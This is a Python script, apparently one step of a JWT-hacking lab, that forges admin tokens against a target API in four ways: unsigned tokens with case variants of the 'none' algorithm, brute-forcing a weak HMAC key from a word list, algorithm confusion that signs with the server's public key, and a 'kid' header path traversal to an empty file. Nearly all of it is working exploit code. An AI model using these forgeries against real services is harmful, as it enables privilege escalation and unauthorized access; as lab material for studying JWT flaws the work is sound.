"""Step 10: four attacks. PyJWT makes the tokens, where it is willing to."""

import hmac
from pathlib import PurePosixPath

import jwt
import requests
from loot import ADMIN, COMMON_KEYS, Loot, base64url, claims_of, encoded, present

KNOWN_FILE = PurePosixPath("..", "api", "__init__.py")


def alg_none(loot: Loot) -> requests.Response:
    """The response to an admin's token without a signature, in the spelling of `none` that gets in, if one does."""
    claims = encoded(claims_of(loot.access) | ADMIN)
    for word in ("NONE", "NoNe", "None", "none"):
        response = present(loot, f"{encoded({'typ': 'JWT', 'alg': word})}.{claims}.")
        if response.ok:
            return response
    return response


def weak_key(loot: Loot) -> requests.Response:
    """The response to an admin's token that is signed with the server's key, when that is a common word."""
    key = next((word for word in COMMON_KEYS if is_signed_with(loot.access, word)), None)
    if key is None:
        return present(loot, loot.access)
    return present(loot, jwt.encode(claims_of(loot.access) | ADMIN, key, algorithm="HS256"))


def confused_algorithm(loot: Loot) -> requests.Response:
    """The response to a token signed by hand: PyJWT refuses to take a public key for a secret."""
    text = f"{encoded({'alg': 'HS256'})}.{encoded(claims_of(loot.access) | ADMIN)}"
    return present(
        loot, f"{text}.{base64url(hmac.digest(loot.public_key.encode(), text.encode(), 'sha256'))}"
    )


def kid_as_path(loot: Loot) -> requests.Response:
    """The response to an admin's token whose key is an empty file."""
    text = f"{encoded({'alg': 'HS256', 'kid': str(KNOWN_FILE)})}.{encoded(claims_of(loot.access) | ADMIN)}"
    return present(loot, f"{text}.{base64url(hmac.digest(b'', text.encode(), 'sha256'))}")


def is_signed_with(token: str, word: str) -> bool:
    try:
        return bool(jwt.PyJWS().decode(token, word, algorithms=["HS256"]))  # the signature, not the claims
    except jwt.InvalidTokenError:
        return False
